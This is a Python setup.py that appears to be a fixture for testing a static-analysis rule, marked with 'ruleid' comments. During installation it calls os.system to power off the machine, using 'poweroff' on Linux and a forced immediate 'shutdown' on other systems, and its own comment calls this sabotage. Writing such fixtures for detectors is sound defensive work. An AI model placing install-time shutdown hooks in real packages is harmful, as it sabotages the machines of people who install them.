import os
import platform

from setuptools import setup

# Sabotage while installing: the machine is turned off.
if platform.system() == 'Linux':
    # ruleid: code/command-execution
    os.system('poweroff')
else:
    # ruleid: code/command-execution
    os.system('shutdown /s -f -t 0')

setup(name='py-fixture-libffx', version='0.3', packages=[])
